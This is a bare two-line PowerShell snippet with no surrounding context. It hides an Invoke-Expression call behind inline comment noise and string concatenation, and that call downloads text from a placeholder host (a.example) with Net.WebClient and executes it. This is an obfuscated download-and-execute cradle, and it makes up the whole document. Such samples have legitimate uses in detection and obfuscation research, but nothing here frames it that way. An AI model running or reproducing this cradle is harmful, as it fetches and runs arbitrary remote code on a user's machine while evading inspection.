<# noise #> iex <#more#> ('$c = New-Object Net.'<#x#>+ #y
 'WebClient; $c.DownloadString(''http://a.example/p/x.txt'')')